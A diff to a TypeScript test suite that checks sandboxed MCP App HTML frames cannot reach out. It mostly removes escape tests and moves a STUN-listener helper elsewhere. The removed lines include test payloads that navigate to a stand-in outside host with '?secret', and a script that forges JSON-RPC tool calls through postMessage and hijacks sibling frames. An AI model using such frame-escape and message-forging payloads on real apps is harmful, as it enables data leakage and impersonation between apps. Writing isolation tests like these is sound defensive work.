@@ -1,11 +1,9 @@
-import { createSocket } from "node:dgram";
 import { readFile } from "node:fs/promises";
-import { fileURLToPath } from "node:url";
 import type { Frame, Page } from "playwright-core";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { bundle } from "./stage/bundle.ts";
 import type { HtmlRun } from "./stage/html-page.ts";
 import { openStage, type Stage } from "./stage/stage.ts";
+import { openStunServer } from "./stage/stun-server.ts";
 
 let stage: Stage;
 let page: Page;
@@ -13,13 +11,7 @@ let weather: string;
 
 beforeAll(async () => {
   stage = await openStage();
-  const script = await bundle(fileURLToPath(new URL("./stage/html-page.ts", import.meta.url)));
-  stage.server.put("/html-page.js", "text/javascript", script);
-  stage.server.put(
-    "/html",
-    "text/html",
-    '<!doctype html><title>host</title><script type="module" src="/html-page.js"></script>',
-  );
+  await stage.serveHtmlPage();
   weather = await readFile(new URL("./pages/mcp-app.html", import.meta.url), "utf8");
   page = await stage.browser.newPage();
 });
@@ -208,84 +200,14 @@ describe("an MCP App's own HTML", () => {
   });
 });
 
-interface StunServer extends AsyncDisposable {
-  readonly url: string;
-  packets(): number;
-}
-
-/** Where WebRTC would send its first packets. */
-async function openStunServer(): Promise<StunServer> {
-  let packets = 0;
-  const socket = createSocket("udp4", () => {
-    packets += 1;
-  });
-  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
-  return {
-    url: `stun:127.0.0.1:${socket.address().port}`,
-    packets: () => packets,
-    [Symbol.asyncDispose]: () => new Promise<void>((resolve) => socket.close(() => resolve())),
-  };
-}
-
+/** Its ways out, and other apps: isolation/html-rows.ts. */
 describe("an app's HTML that wants out", () => {
-  const outside = () => `http://outside.localhost:${stage.server.port}`;
-  const htmlFrameUrl = () => `http://x.frames.localhost:${stage.server.port}/html`;
+  const htmlFrameUrl = () => stage.htmlFrameUrlOf("x");
   /** What the host page itself asks for. */
   const hostPaths = ["/html", "/html-page.js", "/favicon.ico"];
   const asked = () => stage.server.requests.filter(({ path }) => !hostPaths.includes(path));
   const failure = () => page.evaluate(() => globalThis.html.error());
   const failed = () => page.waitForFunction(() => globalThis.html.state() === "failed");
-
-  it.each(["a srcdoc frame", "its own host"])(
-    "finds every way shut on %s, and neither the page nor any server hears of it",
-    async (where) => {
-      await using stun = await openStunServer();
-      const isServed = where === "its own host";
-      const target = { out: outside(), stun: stun.url };
-      const script = await readFile(new URL("./pages/reach-out.js", import.meta.url), "utf8");
-      await run({
-        html: `<!doctype html><title>x</title><body><script>globalThis.target = ${JSON.stringify(target)};${script}</script>`,
-        ...(isServed ? { frameUrl: htmlFrameUrl() } : {}),
-      });
-      await page.waitForFunction(
-        () => globalThis.html.logs().includes("done") || globalThis.html.state() === "failed",
-      );
-      const outcomes = (await logs()).slice(0, -1);
-      expect(outcomes.length).toBeGreaterThan(40);
-      expect(outcomes.filter((outcome) => !outcome.endsWith(": refused"))).toEqual([]);
-      expect(asked()).toEqual([]);
-      expect(stun.packets()).toBe(0);
-      expect(page.context().pages()).toHaveLength(1);
-      expect(page.url()).toBe(`${stage.server.origin}/html`);
-      expect(await state()).toBe("running");
-    },
-  );
-
-  it.each([
-    [
-      "another site",
-      () => `setTimeout(() => { location.href = "${outside()}/away?secret"; }, 100)`,
-    ],
-    ["itself", () => "setTimeout(() => location.reload(), 100)"],
-    ["nothing", () => 'setTimeout(() => { location.href = "about:blank"; }, 100)'],
-    [
-      "a blob",
-      () => 'setTimeout(() => { location.href = URL.createObjectURL(new Blob(["x"])); }, 100)',
-    ],
-    [
-      "a download",
-      () =>
-        `setTimeout(() => Object.assign(document.createElement("a"), { href: "${outside()}/x", download: "x" }).click(), 100)`,
-    ],
-    ["another site before it has loaded", () => `location.href = "${outside()}/early?secret";`],
-  ])("is ended when it goes to %s, and nothing is asked of a server", async (_where, script) => {
-    const viewLimits = { heartbeatTimeoutMs: 1_000, heartbeatIntervalMs: 100 };
-    await run({ html: `<script>${script()}</script>`, viewLimits });
-    await failed();
-    expect(["VIEW_MESSAGE_REFUSED", "VIEW_UNRESPONSIVE"]).toContain((await failure())?.code);
-    expect(await page.evaluate(() => globalThis.html.frames())).toBe(0);
-    expect(asked()).toEqual([]);
-  });
 
   const request = '{ jsonrpc: "2.0", id: 1, method: "ping" }';
   it.each([
@@ -309,46 +231,9 @@ describe("an app's HTML that wants out", () => {
     expect(await stall).toBeLessThan(1_500);
   });
 
-  it("cannot speak for another app, nor to it, nor take its frames elsewhere", async () => {
-    expect(await run({ html: weather, grants: [toolGrant], instance: "a" })).toBeUndefined();
-    await expect.poll(() => text("place")).toBe("Porto");
-    const attack = `<script>
-      const call = { jsonrpc: "2.0", id: 99, method: "tools/call", params: { name: "get_weather" } };
-      const input = { jsonrpc: "2.0", method: "ui/notifications/tool-input", params: { arguments: { place: "Nowhere" } } };
-      const forged = [call, input, { berth: "boot" }, { berth: "hello" }, { berth: "beat" }];
-      const refused = [];
-      for (const message of forged) {
-        top.postMessage(message, "*");
-        for (const proxy of [top[0], top[0][0]]) {
-          const { port1 } = new MessageChannel();
-          proxy.postMessage(message, "*", [port1]);
-        }
-      }
-      for (const frame of [top[0], top[0][0]])
-        try { frame.location.href = "${outside()}/other"; } catch { refused.push("refused"); }
-      parent.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data: refused.length + " refused" } }, "*");
-    </script>`;
-    expect(await run({ html: attack, instance: "b" })).toBeUndefined();
-    await page.waitForFunction(() => globalThis.html.logs().includes("2 refused"));
-    // Whatever was forged came before this call does.
-    expect(JSON.parse((await ask("tools/call", { name: "get_weather" })) ?? "")).toHaveProperty(
-      "content",
-    );
-    const calls = await page.evaluate(() =>
-      globalThis.html.seen.filter(({ kind }) => kind === "tool"),
-    );
-    expect(calls).toHaveLength(1);
-    expect(await text("place")).toBe("Porto");
-    expect(await page.evaluate(() => ["a", "b"].map((one) => globalThis.html.state(one)))).toEqual([
-      "running",
-      "running",
-    ]);
-    expect(asked()).toEqual([]);
-  });
-
   // After the others: the browser may keep that process for the page's next srcdoc frames.
   it("is ended when it never yields, while the page and an app of another host stay live", async () => {
-    const other = `http://y.frames.localhost:${stage.server.port}/html`;
+    const other = stage.htmlFrameUrlOf("y");
     const viewLimits = { heartbeatTimeoutMs: 2_000, heartbeatIntervalMs: 100 };
     const neighbour = { html: weather, frameUrl: other, instance: "b", viewLimits };
     expect(await run(neighbour)).toBeUndefined();
